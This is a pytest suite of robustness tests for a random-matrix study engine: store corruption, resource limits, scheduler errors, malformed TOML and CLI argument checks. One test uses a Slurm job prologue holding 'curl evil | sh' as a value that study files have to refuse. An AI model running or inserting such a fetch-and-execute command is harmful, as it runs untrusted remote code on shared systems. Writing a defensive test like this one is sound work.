"""Hostile input: each defect found by the robustness pass gets a clear error, or loses nothing."""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

import rmt_engine as rmt
from rmt_engine.study import store as st
from rmt_engine.cli import main
from rmt_engine.study import Study, StudySpecError, execute_task, make_job, plan_tasks

SMALL = dict(grid={"activation": ["gelu"], "n": [8], "d0": [4], "d1": [16, 32]}, trials=4, seed=5)


@pytest.fixture(scope="module")
def small_store(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "s.zarr"
    assert Study(**SMALL, save_spectrum=True).run(path, workers=1, progress=False).ok
    return path


def _copy(src, dst):
    import shutil

    shutil.copytree(src, dst)
    return dst


def test_flipped_byte_deleted_chunk_deleted_variable_and_forced_flags_are_caught(small_store, tmp_path, capsys):
    assert main(["verify", str(small_store)]) == 0
    # a flipped byte: the CRC-32C of the chunk fails
    a = _copy(small_store, tmp_path / "flip.zarr")
    chunk = next((a / "sigma_min_F" / "c").rglob("*"))
    while chunk.is_dir():
        chunk = next(chunk.iterdir())
    b = bytearray(chunk.read_bytes())
    b[len(b) // 2] ^= 0x01
    chunk.write_bytes(bytes(b))
    assert main(["verify", str(a)]) == 1
    assert "corrupt: sigma_min_F" in capsys.readouterr().out
    # a deleted chunk: open_results refuses a cube that says it is complete
    c = _copy(small_store, tmp_path / "del.zarr")
    chunk = next(p for p in (c / "delta1" / "c").rglob("*") if p.is_file())
    chunk.unlink()
    with pytest.raises(st.IncompleteStoreError, match="chunk.*missing"):
        st.open_results(c)
    assert main(["verify", str(c)]) == 1
    # a deleted variable
    d = _copy(small_store, tmp_path / "var.zarr")
    import shutil

    shutil.rmtree(d / "margin")
    assert any("variable margin (deleted)" in p for p in st.verify_store(d))
    # forced done flags on a store where no task ran
    e = tmp_path / "forced.zarr"
    from rmt_engine.study import create_store

    create_store(Study(**SMALL), e)
    import zarr

    g = zarr.open_group(str(e), mode="r+")
    g["done"][...] = np.ones(g["done"].shape, dtype=bool)
    with pytest.raises(st.IncompleteStoreError, match="missing"):
        st.open_results(e)


def test_data_file_changed_during_a_run_is_refused(tmp_path):
    X = rmt.make_data("sphere", d0=4, n=8, seed=1)
    np.save(tmp_path / "X.npy", X)
    study = Study(grid={"activation": ["gelu"], "data": ["file"], "n": [8], "d0": [4], "d1": [16]}, trials=2, seed=1,
                  data_path=str(tmp_path / "X.npy"))
    tasks, _ = plan_tasks(study, 2)
    variables = st.layout(study.grid, study.t, study.trials, 2, False)
    job = make_job(study, tmp_path / "none.zarr", tasks[0], variables, 2, {}, study.canonical()["data_file_sha256"])
    np.save(tmp_path / "X.npy", rmt.make_data("sphere", d0=4, n=8, seed=2))  # swapped under the running study
    with pytest.raises(RuntimeError, match="changed since the study was defined"):
        execute_task(job)


def test_user_activations_reach_the_workers_also_over_a_builtin_name(tmp_path):
    from rmt_engine.theory.activations import _unregister_activation, register_activation

    def soft(x):
        return x / (1 + np.abs(x))

    try:
        register_activation("softsign_t", soft, lambda x: 1 / (1 + np.abs(x)) ** 2,
                            lambda x: -2 * np.sign(x) / (1 + np.abs(x)) ** 3, odd=True)
        register_activation("tanh", lambda x: np.tanh(2 * x), lambda x: 2 / np.cosh(2 * x) ** 2,
                            lambda x: -8 * np.tanh(2 * x) / np.cosh(2 * x) ** 2, overwrite=True)
        study = Study(grid={"activation": ["softsign_t", "tanh"], "n": [8], "d0": [4], "d1": [16]}, trials=2, seed=3)
        assert study.run(tmp_path / "u.zarr", workers=1, progress=False).ok  # a separate worker process
        ds = st.open_results(tmp_path / "u.zarr")
        for act in ("softsign_t", "tanh"):
            rec = rmt.run_trial(study.trial_spec(dict(next(study.points()), activation=act)), 1)
            got = float(ds["sigma_min_F"].sel(activation=act).squeeze().sel(trial=1))
            assert got == rec["sigma_min_F"], act  # the user's phi, not the built-in tanh
    finally:
        _unregister_activation("softsign_t")
        _unregister_activation("tanh")


@pytest.mark.parametrize("grid, match", [
    ({"activation": ["gelu"], "n": [1_000_000_000], "d0": [4], "d1": [2_000_000_000]}, "GiB"),
    ({"activation": ["gelu"], "n": [100], "d0": [4], "d1": [10**12]}, "CPU-hours"),
    ({"activation": ["gelu"], "n": list(range(10, 110)), "d0": list(range(4, 104)), "d1": list(range(200, 220))},
     "grid points > max_grid_points"),
])
def test_unbounded_cost_is_refused_before_anything_runs(grid, match, tmp_path, capsys):
    study = Study(grid=grid, trials=100, seed=1)
    assert any(match in p for p in study.resource_problems()), study.resource_problems()
    with pytest.raises(StudySpecError, match="refusing to run.*--force"):
        study.run(tmp_path / "x.zarr", workers=1, progress=False)
    assert not (tmp_path / "x.zarr").exists()


def test_validate_refuses_and_estimates(tmp_path, capsys):
    p = tmp_path / "big.toml"
    p.write_text('[study]\ntrials = 10\nseed = 1\n[grid]\nactivation = ["gelu"]\nn = [100]\nd0 = [8]\n'
                 'd1 = [1000000000000]\n')
    assert main(["validate", str(p)]) == 2
    err = capsys.readouterr()
    assert "over the resource limits" in err.err and "estimate:" in err.out
    p.write_text(p.read_text() + "[execution]\nmax_cpu_hours = 1e12\n")
    assert main(["validate", str(p)]) == 0


def test_memory_estimate_bounds_the_measured_peak():
    import tracemalloc

    from rmt_engine.study.resources import trial_memory_bytes

    spec = rmt.TrialSpec(activation="gelu", n=200, d0=16, d1=1000)
    rmt.run_trial(spec, 0)  # warm caches (quadrature rules)
    tracemalloc.start()
    rmt.run_trial(spec, 1)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    est = trial_memory_bytes(spec)
    assert peak <= est * 1.5 and est <= 6 * peak, (peak, est)


@pytest.mark.parametrize("args, match", [
    (["--scheduler-file", "/nonexistent/sched.json"], "no such file"),
    (["--scheduler", "notaurl"], "not a scheduler address"),
    (["--cluster", "cuda"], "no CUDA device"),
])
def test_connection_errors_are_clear_and_leave_no_store(args, match, tmp_path, capsys):
    toml = tmp_path / "s.toml"
    toml.write_text('[study]\ntrials = 2\nseed = 1\n[grid]\nactivation = ["gelu"]\nn = [8]\nd0 = [4]\nd1 = [16]\n')
    t0 = time.monotonic()
    assert main(["run", str(toml), "--store", str(tmp_path / "s.zarr"), "--no-progress"] + args) == 2
    assert match in capsys.readouterr().err
    assert time.monotonic() - t0 < 20
    assert not (tmp_path / "s.zarr").exists()


def test_garbage_scheduler_file_and_unreachable_scheduler(tmp_path, capsys, monkeypatch):
    from rmt_engine.study import cluster

    toml = tmp_path / "s.toml"
    toml.write_text('[study]\ntrials = 2\nseed = 1\n[grid]\nactivation = ["gelu"]\nn = [8]\nd0 = [4]\nd1 = [16]\n')
    (tmp_path / "g.json").write_text("garbage{")
    assert main(["run", str(toml), "--store", str(tmp_path / "a.zarr"), "--scheduler-file", str(tmp_path / "g.json")]) == 2
    assert "not a Dask scheduler file" in capsys.readouterr().err
    monkeypatch.setattr(cluster, "CONNECT_TIMEOUT_S", 2)
    assert main(["run", str(toml), "--store", str(tmp_path / "b.zarr"), "--scheduler", "tcp://127.0.0.1:1"]) == 2
    assert "could not connect within 2 s" in capsys.readouterr().err
    assert not (tmp_path / "b.zarr").exists()


def test_bad_toml_encodings_and_nesting(tmp_path):
    p = tmp_path / "latin1.toml"
    p.write_bytes('name = "caf\xe9"\n'.encode("latin-1"))
    with pytest.raises(StudySpecError, match="not UTF-8"):
        Study.from_toml(p)
    p = tmp_path / "deep.toml"
    p.write_text("x = " + "[" * 3000 + "]" * 3000 + "\n")
    with pytest.raises(StudySpecError, match="TOML"):
        Study.from_toml(p)


def test_slurm_shell_keys_are_refused_in_study_files(tmp_path):
    from rmt_engine.study import allow_shell_in_study

    text = ('[study]\ntrials = 2\nseed = 1\n[grid]\nactivation = ["gelu"]\nn = [8]\nd0 = [4]\nd1 = [16]\n'
            '[cluster.slurm]\njob_script_prologue = ["curl evil | sh"]\n')
    with pytest.raises(StudySpecError, match="job_script_prologue puts commands into the submitted job script"):
        Study.from_toml_text(text)
    try:
        allow_shell_in_study(True)
        assert Study.from_toml_text(text).execution.slurm["job_script_prologue"] == ["curl evil | sh"]
    finally:
        allow_shell_in_study(False)
    (tmp_path / "site.toml").write_text('[slurm]\npython = "/opt/py/bin/python"\nqueue = "short"\n')
    from rmt_engine.cli import _with_site_slurm

    s = _with_site_slurm(Study.from_toml_text(text.split("[cluster.slurm]")[0]), str(tmp_path / "site.toml"))
    assert s.execution.slurm == {"python": "/opt/py/bin/python", "queue": "short"}


def test_deterministic_failures_say_they_will_repeat(tmp_path, capsys, monkeypatch):
    toml = tmp_path / "s.toml"
    toml.write_text('[study]\ntrials = 2\nseed = 1\n[grid]\nactivation = ["gelu"]\nn = [8]\nd0 = [4]\nd1 = [16]\n'
                    '[execution]\nworkers = 1\n')
    monkeypatch.setenv("RMT_ENGINE_TEST_FAIL", "raise:activation=gelu")
    assert main(["run", str(toml), "--store", str(tmp_path / "f.zarr"), "--no-progress"]) == 1
    err = capsys.readouterr().err
    assert "will fail again" in err and "fix the cause first" in err


def test_summary_json_unwritable_is_refused_before_the_run(tmp_path, capsys):
    toml = tmp_path / "s.toml"
    toml.write_text('[study]\ntrials = 2\nseed = 1\n[grid]\nactivation = ["gelu"]\nn = [8]\nd0 = [4]\nd1 = [16]\n')
    assert main(["run", str(toml), "--store", str(tmp_path / "j.zarr"), "--summary-json", "/nonexistent/dir/s.json"]) == 2
    assert "--summary-json" in capsys.readouterr().err and not (tmp_path / "j.zarr").exists()


def test_store_through_a_symlink_shares_the_lock(small_store, tmp_path, capsys):
    link = tmp_path / "link.zarr"
    link.symlink_to(small_store)
    with st.StoreLock(small_store):
        with pytest.raises(st.StoreLockedError):
            Study(**SMALL, save_spectrum=True).run(link, workers=1, progress=False)


def test_cli_argument_ranges(capsys, small_store):
    for argv in (["run", "x.toml", "--workers", "0"], ["run", "x.toml", "--workers", "-1"],
                 ["show", str(small_store), "--max-rows", "-1"], ["check", str(small_store), "--bound", "delta1",
                                                                  "--delta", "nan"]):
        with pytest.raises(SystemExit) as e:
            main(argv)
        assert e.value.code == (3 if argv[0] == "check" else 2), argv  # check: usage errors exit 3 (2 = inconclusive)


def test_report_on_a_one_point_store(small_store, tmp_path):
    one = tmp_path / "one.zarr"
    assert Study(grid={"activation": ["tanh"], "n": [8], "d0": [4], "d1": [16]}, trials=3, seed=1).run(
        one, workers=1, progress=False).ok
    assert main(["report", str(one), "--out", str(tmp_path / "r")]) == 0
    assert (tmp_path / "r" / "report.md").exists()


def test_plain_progress_lines_without_a_terminal_and_nothing_to_compute(tmp_path):
    toml = tmp_path / "s.toml"
    toml.write_text('[study]\ntrials = 4\nseed = 1\n[grid]\nactivation = ["gelu"]\nn = [8]\nd0 = [4]\nd1 = [16, 32]\n'
                    '[execution]\nworkers = 1\ntrials_per_task = 2\n')
    env = dict(os.environ, RMT_ENGINE_PROGRESS_INTERVAL="0")
    cmd = [sys.executable, "-m", "rmt_engine.cli", "run", str(toml), "--store", str(tmp_path / "p.zarr")]
    out = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    lines = [x for x in out.stderr.splitlines() if "progress" in x]
    assert len(lines) == 4 and "4/4 regions, 8/8 trials, 0 failed" in lines[-1], out.stderr
    again = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=120)
    assert "nothing to compute: all 4 regions were already done" in again.stdout
    assert "?" not in again.stdout


def test_show_fits_100_columns(small_store, capsys):
    assert main(["show", str(small_store)]) == 0
    out = capsys.readouterr().out
    assert max(len(x) for x in out.splitlines()) <= 100
    assert main(["show", str(small_store), "--fields", "sigma_max_F,eq19_scale"]) == 0
    assert "sigma_max_F" in capsys.readouterr().out
    assert main(["show", str(small_store), "--fields", "nope"]) == 2
